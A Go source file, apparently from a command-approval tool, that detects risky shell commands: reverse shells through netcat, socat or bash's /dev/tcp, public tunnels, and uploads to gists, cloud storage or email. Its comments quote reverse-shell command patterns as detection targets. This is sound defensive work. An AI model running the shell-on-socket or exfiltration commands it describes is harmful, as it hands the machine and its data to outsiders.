package risk

import (
	"fmt"
	"path/filepath"
	"slices"
	"strconv"
	"strings"

	"github.com/wardenhq/warden/approvals/command"
)

// Some commands hand this machine, or its files, to others: a shell bound
// to a socket (nc -e, socat EXEC:, a shell on bash's /dev/tcp), a tunnel
// that publishes a local port on the internet (ngrok, cloudflared,
// localtunnel, bore, tailscale funnel, ssh -R), files copied to cloud
// storage or a gist. Each needs the network: a sandbox that keeps the
// command off it stops them (nothing outside reaches its network
// namespace, and the proxy asks for every host it contacts).

// shellPrograms are the interpreters that read commands from their input.
var shellPrograms = map[string]bool{"sh": true, "bash": true, "zsh": true, "dash": true, "ksh": true, "mksh": true,
	"ash": true, "fish": true, "csh": true, "tcsh": true, "pwsh": true}

// exposure records what prog's command hands to the network.
func (as *Assessor) exposure(prog string, args, ops []string) {
	expose := func(cat Category, fact string) { as.stoppedIf(as.offline(), High, cat, fact) }
	switch prog {
	case "nc", "ncat", "netcat":
		if fact := netcatShell(prog, args); fact != "" {
			expose(SystemModification, fact)
		}
	case "socat":
		if fact := socatShell(args); fact != "" {
			expose(SystemModification, fact)
		}
	case "glab":
		// GitLab's gists: `glab snippet create [FILE...]`.
		if c := parseGh(args); len(c.ops) >= 2 && c.ops[0] == "snippet" && c.ops[1] == "create" {
			where := "a GitLab snippet"
			if hasFlag(args, "--public", "-p") || optionValue(args, "-v", "--visibility") == "public" {
				where = "a public GitLab snippet"
			}
			for _, f := range c.ops[2:] {
				expose(DataExfiltration, fmt.Sprintf("uploads %s to %s", as.Display(as.abs(f), false), where))
				as.Reads(f)
			}
		}
	case "gh", "hub":
		if prog == "gh" {
			as.gh(args)
		}
		if i := wordsAt(ops, "gist", "create"); i >= 0 {
			files := slices.DeleteFunc(slices.Clone(ops[i+2:]), func(f string) bool { return f == "-" })
			where := "a GitHub gist"
			if hasFlag(args, "--public", "-p") {
				where = "a public GitHub gist"
			}
			for _, f := range files {
				expose(DataExfiltration, fmt.Sprintf("uploads %s to %s", as.Display(as.abs(f), false), where))
				as.Reads(f)
			}
		}
	}
	if fact := tunnelExposure(prog, args, ops); fact != "" {
		expose(DataExfiltration, fact)
	}
	if fact := as.servesFiles(prog, args); fact != "" && !as.offline() {
		// Without the network (off, or ask: a namespace of its own) no
		// other machine reaches it; a dev server is everyday work there.
		as.Add(High, DataExfiltration, fact)
	}
	if to := mailRecipients(prog, args, ops); to != "" {
		as.Add(High, DataExfiltration, fmt.Sprintf("sends email to %s (%s)", to, prog))
	}
	if srcs, dest := cloudUpload(prog, args, ops); dest != "" {
		for _, src := range srcs {
			expose(DataExfiltration, fmt.Sprintf("uploads %s to %s", as.Display(as.abs(src), false), dest))
			as.Reads(src)
		}
	}
}

// shellOnSocket records a shell whose input or output is a network
// connection (`bash -i >& /dev/tcp/HOST/PORT 0>&1`, or a descriptor an
// earlier `exec N<>/dev/tcp/...` opened): a remote shell for HOST.
func (as *Assessor) shellOnSocket(host string) {
	as.stoppedIf(as.offline(), High, SystemModification, "gives a shell to "+host+" (a connection from bash's /dev/tcp)")
}

// netcatShell says what nc's command hands a connection (-e PROG, -c CMD,
// ncat's --exec and --sh-exec): a fact, or "".
func netcatShell(prog string, args []string) string {
	nc := parseNetcat(args)
	if nc.exe == "" {
		return ""
	}
	if nc.listen || nc.host == "" {
		return fmt.Sprintf("gives `%s` to whoever connects to port %s (%s -e)", nc.exe, nc.port, prog)
	}
	return fmt.Sprintf("gives `%s` to %s, which connects to it (%s -e)", nc.exe, nc.host, prog)
}

// netcat is what an nc, ncat or netcat command line says: the program it
// hands a connection, the host it connects to, the port, and whether it
// listens.
type netcat struct {
	exe, host, port string
	listen          bool
}

// parseNetcat reads nc's options, whose values (-e PROG, -c CMD, -p PORT)
// are neither hosts nor ports to connect to.
func parseNetcat(args []string) netcat {
	exe, port := "", ""
	listen := false
	var ops []string
	for i := 0; i < len(args); i++ {
		a := args[i]
		next := func() string {
			if i+1 < len(args) {
				i++
				return args[i]
			}
			return ""
		}
		switch {
		case a == "--exec" || a == "--sh-exec" || a == "--lua-exec":
			exe = next()
		case strings.HasPrefix(a, "--exec=") || strings.HasPrefix(a, "--sh-exec=") || strings.HasPrefix(a, "--lua-exec="):
			exe = a[strings.IndexByte(a, '=')+1:]
		case a == "--listen":
			listen = true
		case a == "--source-port":
			port = next()
		case a == "--proxy" || a == "--proxy-type" || a == "--proxy-auth" || a == "--source" || a == "--wait" || a == "--idle-timeout":
			next()
		case strings.HasPrefix(a, "--"):
		case strings.HasPrefix(a, "-") && len(a) > 1:
			// Short options, possibly combined: -lvnp 4444, -e/bin/sh.
			for j := 1; j < len(a); j++ {
				c := a[j]
				if c == 'l' {
					listen = true
					continue
				}
				if strings.IndexByte("ecpswiqxXOITVMmo", c) < 0 {
					continue
				}
				v := a[j+1:]
				if v == "" {
					v = next()
				}
				switch c {
				case 'e', 'c':
					exe = v
				case 'p':
					port = v
				}
				break
			}
		default:
			ops = append(ops, a)
		}
	}
	host := ""
	for _, op := range ops {
		if command.LooksNumeric(op) && !strings.Contains(op, ".") {
			if port == "" {
				port = op
			}
			continue
		}
		if host == "" {
			host = op
		}
	}
	return netcat{exe: exe, host: host, port: port, listen: listen}
}

// socatAddress sorts one socat address: "exec" (what = the program),
// "listen" (the port) or "connect" (the host); "" for the rest (files,
// stdio, pipes).
func socatAddress(addr string) (kind, what string) {
	typ, rest, ok := strings.Cut(addr, ":")
	if !ok {
		return "", ""
	}
	fields := strings.Split(strings.SplitN(rest, ",", 2)[0], ":")
	switch typ = strings.ToUpper(typ); {
	case typ == "EXEC" || typ == "SYSTEM":
		return "exec", strings.SplitN(rest, ",", 2)[0]
	case strings.HasSuffix(typ, "-LISTEN") || strings.HasSuffix(typ, "-L") || typ == "UDP-RECV" || typ == "UDP-RECVFROM":
		return "listen", fields[0]
	case typ == "TCP" || typ == "TCP4" || typ == "TCP6" || typ == "UDP" || typ == "UDP4" || typ == "UDP6" ||
		typ == "OPENSSL" || typ == "SSL" || typ == "SCTP" || typ == "TCP-CONNECT" || typ == "UDP-CONNECT" ||
		typ == "OPENSSL-CONNECT" || typ == "SCTP-CONNECT" || typ == "UDP-SENDTO":
		if len(fields) >= 2 {
			return "connect", strings.Trim(fields[0], "[]")
		}
	case typ == "SOCKS4" || typ == "SOCKS4A" || typ == "SOCKS5" || typ == "PROXY":
		return "connect", fields[0] // the proxy
	}
	return "", ""
}

// socatAddresses are socat's two addresses (its first two operands).
func socatAddresses(args []string) []string {
	var out []string
	for i := 0; i < len(args) && len(out) < 2; i++ {
		switch a := args[i]; {
		case a == "-b" || a == "-t" || a == "-T" || a == "-lf" || a == "-lp" || a == "-L" || a == "-W" || a == "-r" || a == "-R":
			i++
		case strings.HasPrefix(a, "-") && a != "-":
		default:
			out = append(out, a)
		}
	}
	return out
}

// socatShell is the fact for socat joining a program to a socket, or "".
func socatShell(args []string) string {
	addrs := socatAddresses(args)
	if len(addrs) != 2 {
		return ""
	}
	k0, w0 := socatAddress(addrs[0])
	k1, w1 := socatAddress(addrs[1])
	if k1 == "exec" {
		k0, w0, k1, w1 = k1, w1, k0, w0
	}
	if k0 != "exec" {
		return ""
	}
	switch k1 {
	case "listen":
		return fmt.Sprintf("gives `%s` to whoever connects to port %s (socat)", w0, w1)
	case "connect":
		return fmt.Sprintf("gives `%s` to %s, which connects to it (socat)", w0, w1)
	}
	return ""
}

// tunnelExposure is the fact for a command that publishes a local port
// through a tunnel, or "".
func tunnelExposure(prog string, args, ops []string) string {
	if hasFlag(args, "--help", "-h") || len(ops) == 0 && prog != "lt" && prog != "ssh" {
		return ""
	}
	switch prog {
	case "ngrok":
		switch ops[0] {
		case "http", "tcp", "tls":
			target := "a local port"
			switch {
			case len(ops) > 1 && command.LooksNumeric(ops[1]):
				target = "local port " + ops[1]
			case len(ops) > 1:
				target = ops[1]
			}
			return fmt.Sprintf("publishes %s on the internet through a tunnel (ngrok %s)", target, ops[0])
		case "start", "tunnel":
			return "publishes local ports on the internet through a tunnel (ngrok " + ops[0] + ")"
		}
	case "cloudflared":
		if i := wordsAt(ops, "tunnel"); i >= 0 {
			if u := optionValue(args, "--url", "--url"); u != "" {
				return fmt.Sprintf("publishes %s on the internet through a tunnel (cloudflared tunnel)", u)
			}
			if wordsAt(ops, "tunnel", "run") >= 0 || len(ops) == i+1 {
				return "publishes local services on the internet through a tunnel (cloudflared tunnel)"
			}
		}
	case "lt", "localtunnel":
		if p := optionValue(args, "-p", "--port"); p != "" {
			return fmt.Sprintf("publishes local port %s on the internet through a tunnel (%s)", p, prog)
		}
	case "bore":
		if ops[0] == "local" && len(ops) > 1 {
			return fmt.Sprintf("publishes local port %s on the internet through a tunnel (bore local)", ops[1])
		}
	case "tailscale":
		if ops[0] == "funnel" && len(ops) > 1 && ops[1] != "status" && ops[1] != "reset" && ops[1] != "off" {
			return fmt.Sprintf("publishes %s on the internet (tailscale funnel)", ops[1])
		}
	case "ssh":
		if c := parseSSH(args); len(c.remoteForwards) > 0 {
			fwd := c.remoteForwards[0]
			return fmt.Sprintf("opens %s on %s to this machine (ssh -R %s)", fwdListen(fwd), c.host, fwd)
		}
	}
	return ""
}

// fwdListen names the remote end of an ssh -R forward ([bind:]port:...).
func fwdListen(spec string) string {
	parts := strings.Split(spec, ":")
	if len(parts) >= 4 {
		return "port " + parts[1] + " (bound to " + parts[0] + ")"
	}
	return "port " + parts[0]
}

// cloudUpload says which local paths prog's command copies to cloud
// storage, and where (dest "" when it copies none).
func cloudUpload(prog string, args, ops []string) (local []string, dest string) {
	remote := func(s string) bool { return strings.Contains(s, "://") }
	// copyTo reads `VERB SRC... DEST` from ops[verbAt]: the local sources
	// when DEST is remote.
	copyTo := func(verbAt int) ([]string, string) {
		rest := ops[verbAt:]
		if len(rest) < 2 || !remote(rest[len(rest)-1]) {
			return nil, ""
		}
		local := slices.DeleteFunc(slices.Clone(rest[:len(rest)-1]), remote)
		if len(local) == 0 {
			return nil, ""
		}
		return local, rest[len(rest)-1]
	}
	switch prog {
	case "aws":
		for _, verb := range []string{"cp", "mv", "sync"} {
			if i := wordsAt(ops, "s3", verb); i >= 0 {
				return copyTo(i + 2)
			}
		}
	case "gsutil":
		for i, op := range ops {
			if op == "cp" || op == "mv" || op == "rsync" {
				return copyTo(i + 1)
			}
		}
	case "gcloud":
		for _, verb := range []string{"cp", "mv", "rsync"} {
			if i := wordsAt(ops, "storage", verb); i >= 0 {
				return copyTo(i + 2)
			}
		}
	case "azcopy":
		if len(ops) > 0 && (ops[0] == "copy" || ops[0] == "cp" || ops[0] == "sync") {
			return copyTo(1)
		}
	case "az":
		if wordsAt(ops, "storage", "blob", "upload") >= 0 || wordsAt(ops, "storage", "blob", "upload-batch") >= 0 {
			src := optionValue(args, "-f", "--file")
			if src == "" {
				src = optionValue(args, "-s", "--source")
			}
			if src != "" {
				return []string{src}, "Azure storage"
			}
		}
	case "rclone":
		// rclone names remotes NAME:path; a local path has no colon
		// before its first slash.
		isRemote := func(s string) bool {
			i := strings.IndexByte(s, ':')
			return i > 0 && !strings.Contains(s[:i], "/")
		}
		if len(ops) >= 3 && slices.Contains([]string{"copy", "sync", "move", "copyto", "moveto", "bisync"}, ops[0]) &&
			isRemote(ops[2]) && !isRemote(ops[1]) {
			return []string{ops[1]}, ops[2] + " (rclone " + ops[0] + ")"
		}
	}
	return nil, ""
}

// readsCommands says whether argv is a shell that takes its commands from
// its input: no script operand (`sh`, `bash -i`, `bash -s`).
func readsCommands(argv []string) bool {
	if !shellPrograms[filepath.Base(argv[0])] {
		return false
	}
	args := argv[1:]
	return hasFlag(args, "-i", "-s") || len(Operands(args)) == 0 && !hasFlag(args, "-c")
}

// servesFiles says what a command serves to other machines: a static file
// server bound to every interface (python's http.server by default, php
// -S on 0.0.0.0) hands out the directory, .env and .git included. ""
// for one bound to this machine.
func (as *Assessor) servesFiles(prog string, args []string) string {
	switch {
	case strings.HasPrefix(prog, "python") && wordsAt(args, "-m", "http.server") >= 0:
		bind := optionValue(args, "-b", "--bind")
		if bind == "" {
			bind = "0.0.0.0" // every interface, python's default
		}
		if loopbackAddress(bind) {
			return ""
		}
		dir := optionValue(args, "-d", "--directory")
		if dir == "" {
			dir = "."
		}
		port := "8000"
		for _, op := range Operands(args[wordsAt(args, "-m", "http.server")+2:]) {
			if _, err := strconv.Atoi(op); err == nil {
				port = op
				break
			}
		}
		return fmt.Sprintf("serves %s to every machine that can reach port %s (python -m http.server)", as.Display(as.abs(dir), false), port)
	case prog == "php":
		addr := optionValue(args, "-S", "")
		host, port, _ := strings.Cut(addr, ":")
		if addr == "" || loopbackAddress(host) {
			return ""
		}
		dir := optionValue(args, "-t", "")
		if dir == "" {
			dir = "."
		}
		return fmt.Sprintf("serves %s to every machine that can reach port %s (php -S)", as.Display(as.abs(dir), false), port)
	}
	return ""
}

// loopbackAddress says whether a server bound to addr is reachable from
// this machine only.
func loopbackAddress(addr string) bool {
	addr = strings.Trim(addr, "[]")
	return addr == "localhost" || strings.HasPrefix(addr, "127.") || addr == "::1"
}

// mailRecipients lists whom a mail command sends to ("" for none): the
// operands of mail, mailx, mutt, sendmail, msmtp and ssmtp that are
// addresses, swaks --to, git send-email --to.
func mailRecipients(prog string, args, ops []string) string {
	var to []string
	switch prog {
	case "mail", "mailx", "mutt", "sendmail", "msmtp", "ssmtp", "neomutt":
		for _, op := range ops {
			if strings.Contains(op, "@") && !strings.ContainsAny(op, "/ ") {
				to = append(to, op)
			}
		}
	case "swaks":
		to = append(to, optionValue(args, "-t", "--to"))
	case "git":
		if len(ops) > 0 && ops[0] == "send-email" {
			to = append(to, optionValue(args, "--to", "--to"))
			if to[0] == "" {
				to[0] = "the configured recipients"
			}
		}
	}
	to = slices.DeleteFunc(to, func(s string) bool { return s == "" })
	return strings.Join(to, ", ")
}
